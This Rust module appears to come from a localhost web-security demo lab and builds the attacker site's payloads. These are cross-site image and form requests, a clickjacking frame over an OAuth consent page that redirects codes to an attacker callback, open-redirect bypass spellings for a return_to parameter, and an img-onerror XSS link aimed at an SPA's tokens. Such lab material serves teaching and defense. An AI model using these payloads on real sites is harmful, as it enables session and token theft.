//! The payload of an attack: the markup that its page uses and shows, and what the page's
//! policy has to allow for it.

use askama::Template;
use kit::config::{Addresses, Site};
use url::Url;
use web_kit::ui::Csp;

use super::assets;

/// The callback of the client `demo_rp`: the attacker's app has a consent page.
const ATTACKERS_APP: &str = "http://127.0.0.1:9999/callback";
/// The challenge of the verifier in RFC 7636 appendix B.
const CHALLENGE: &str = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM";
/// The page that open redirects lead to.
pub(super) const LANDED: &str = "/landed";

/// The kinds of payloads; `evil.js` knows each by its name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Payload {
    /// A picture.
    Image,
    /// A form that navigates the browser.
    Form,
    /// A form whose response goes into a frame.
    FramedForm,
    /// A script of the attacker's page.
    Fetch,
    /// A callback URL of the attacker.
    Callback,
    /// A frame under a button.
    Frame,
    /// Links with a `return_to`.
    Links,
    /// Links with a script in them.
    Injected,
}

/// The parts of a payload.
pub(super) struct Parts {
    /// The page's policy.
    pub(super) csp: Csp,
    /// The markup that the attack inserts into the page.
    pub(super) markup: String,
    /// The source of its script.
    pub(super) script: Option<String>,
}

impl Payload {
    /// Its name in the page and for `evil.js`.
    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::Image => "image",
            Self::Form => "form",
            Self::FramedForm => "framed-form",
            Self::Fetch => "fetch",
            Self::Callback | Self::Links | Self::Injected => "links",
            Self::Frame => "frame",
        }
    }

    /// The text of the button.
    pub(super) const fn trigger(self) -> &'static str {
        match self {
            Self::Image => "Show the picture",
            Self::Form | Self::FramedForm => "Send the form",
            Self::Fetch => "Run the script",
            Self::Frame => "Set the trap",
            Self::Callback => "Open the callback",
            Self::Links | Self::Injected => "Show the links",
        }
    }

    /// Its parts, against the services at `addresses`. `callback` is the callback URL of
    /// the attacker.
    pub(super) fn parts(self, addresses: &Addresses, callback: Option<&str>) -> Parts {
        let app = addresses.url(Site::App1);
        let csp = Csp::strict();
        match self {
            Self::Image => Parts::new(csp.img_src(&app), &Image { app: &app }),
            Self::Form => Parts::new(csp.form_action(&app), &Form { app: &app }),
            Self::FramedForm => {
                let csp = csp.form_action(&app).frame_src(&app);
                Parts::new(csp, &FramedForm { app: &app })
            }
            Self::Fetch => Parts {
                script: assets::text("fetch.js"),
                ..Parts::new(csp.connect_src(&app), &Fetch { app: &app })
            },
            Self::Callback => {
                let links = callback.map(|url| Link::new("Your prize", url));
                Parts::new(csp, &links_of(links))
            }
            Self::Frame => {
                let src = consent(addresses);
                let csp = csp.frame_src(&src).frame_src(ATTACKERS_APP);
                Parts::new(csp, &Frame { src })
            }
            Self::Links => Parts::new(csp, &links_of(redirect_links(addresses))),
            Self::Injected => {
                let script = assets::text("injected.js").unwrap_or_default();
                let links = injected(addresses, &script);
                Parts {
                    script: Some(script),
                    ..Parts::new(csp, &links_of(links))
                }
            }
        }
    }
}

impl Parts {
    fn new(csp: Csp, markup: &impl Template) -> Self {
        let markup = markup.render().unwrap_or_default();
        // The usual spelling of the same character: the page shows its markup.
        let markup = markup.replace("&#38;", "&amp;");
        Self {
            csp,
            markup,
            script: None,
        }
    }
}

#[derive(Template)]
#[template(path = "evil/weapons/image.html")]
struct Image<'a> {
    app: &'a str,
}

#[derive(Template)]
#[template(path = "evil/weapons/form.html")]
struct Form<'a> {
    app: &'a str,
}

#[derive(Template)]
#[template(path = "evil/weapons/framed_form.html")]
struct FramedForm<'a> {
    app: &'a str,
}

#[derive(Template)]
#[template(path = "evil/weapons/fetch.html")]
struct Fetch<'a> {
    app: &'a str,
}

#[derive(Template)]
#[template(path = "evil/weapons/frame.html")]
struct Frame {
    src: String,
}

#[derive(Template)]
#[template(path = "evil/weapons/links.html")]
struct Links {
    links: Vec<Link>,
}

struct Link {
    text: String,
    href: String,
}

impl Link {
    fn new(text: impl Into<String>, href: impl Into<String>) -> Self {
        Self {
            text: text.into(),
            href: href.into(),
        }
    }
}

fn links_of(links: impl IntoIterator<Item = Link>) -> Links {
    let links = links.into_iter().collect();
    Links { links }
}

/// The authorization request of an app that has to ask for consent.
fn consent(addresses: &Addresses) -> String {
    let request = [
        ("client_id", "demo_rp"),
        ("redirect_uri", ATTACKERS_APP),
        ("response_type", "code"),
        ("scope", "openid profile email https://api-1/read"),
        ("state", "prize"),
        ("nonce", "prize"),
        ("code_challenge", CHALLENGE),
        ("code_challenge_method", "S256"),
    ];
    with_query(&format!("{}/authorize", addresses.url(Site::Idp)), &request)
}

/// Spellings of this site's address that a careless check accepts as a path.
fn redirect_links(addresses: &Addresses) -> Vec<Link> {
    let here = format!("{}{LANDED}", addresses.url(Site::Evil));
    let host = here.split_once("://").map_or("", |(_, host)| host);
    let spellings = [
        here.clone(),
        format!("//{host}"),
        format!("/\\{host}"),
        format!("/\t/{host}"),
        format!("https:{host}"),
        format!("%2F%2F{host}"),
    ];
    let login = format!("{}/login", addresses.url(Site::App1));
    let link = |text: String| Link::new(&text, with_query(&login, &[("return_to", &text)]));
    spellings.map(link).into()
}

/// The link that carries the script to the SPA's own script.
pub(crate) fn link_to_spa(addresses: &Addresses) -> String {
    let script = assets::text("injected.js").unwrap_or_default();
    let [_, spa] = injected(addresses, &script);
    spa.href
}

/// One link that carries the script to app1's server, and one that carries it
/// to the SPA's own script.
fn injected(addresses: &Addresses, script: &str) -> [Link; 2] {
    let payload = InjectedImage { script }.render().unwrap_or_default();
    let link_to = |site| with_query(&addresses.url(site), &[("note", &payload)]);
    // After `#` it reaches an open page, with its tokens.
    let spa = link_to(Site::Spa).replacen('?', "#", 1);
    [
        Link::new("app1 with the script", link_to(Site::App1)),
        Link::new(
            "The SPA with the script (sign in there first, and open this in its tab)",
            spa,
        ),
    ]
}

#[derive(Template)]
#[template(source = "<img src=\"x\" onerror=\"{{ script }}\">", ext = "html")]
struct InjectedImage<'a> {
    script: &'a str,
}

fn with_query(url: &str, query: &[(&str, &str)]) -> String {
    // The addresses were validated with the configuration.
    let Ok(mut url) = Url::parse(url) else {
        return url.to_owned();
    };
    url.query_pairs_mut().extend_pairs(query);
    url.into()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evil::attack::ALL;

    fn parts(payload: Payload) -> Parts {
        payload.parts(&Addresses::default(), None)
    }

    #[test]
    fn each_policy_names_what_its_payload_needs_and_nothing_else() {
        let app1 = "http://app1.localhost:8082";
        let directives = |payload| parts(payload).csp.to_string();
        assert!(directives(Payload::Image).contains(&format!("img-src 'self' data: {app1};")));
        assert!(directives(Payload::Form).ends_with(&format!("form-action 'self' {app1}")));
        assert!(directives(Payload::FramedForm).contains(&format!("frame-src {app1};")));
        assert!(directives(Payload::Fetch).contains(&format!("connect-src 'self' {app1};")));
        assert!(
            directives(Payload::Frame)
                .contains("frame-src http://idp.localhost:8081 http://127.0.0.1:9999;")
        );
        for attack in &ALL {
            let policy = directives(attack.payload);
            assert!(
                !policy.contains("unsafe") && !policy.contains('*'),
                "{policy}"
            );
        }
    }

    #[test]
    fn a_script_in_an_address_stays_within_the_bounds_of_addresses() {
        for link in injected(&Addresses::default(), &assets::text("injected.js").unwrap()) {
            assert!(link.href.len() < 7000, "{} bytes", link.href.len());
            assert!(!link.href.contains(['<', '"', ' ', '\n']), "{}", link.href);
        }
    }

    #[test]
    fn every_redirect_link_is_a_login_of_the_app() {
        for link in redirect_links(&Addresses::default()) {
            assert!(
                link.href
                    .starts_with("http://app1.localhost:8082/login?return_to="),
                "{}",
                link.href
            );
        }
    }
}
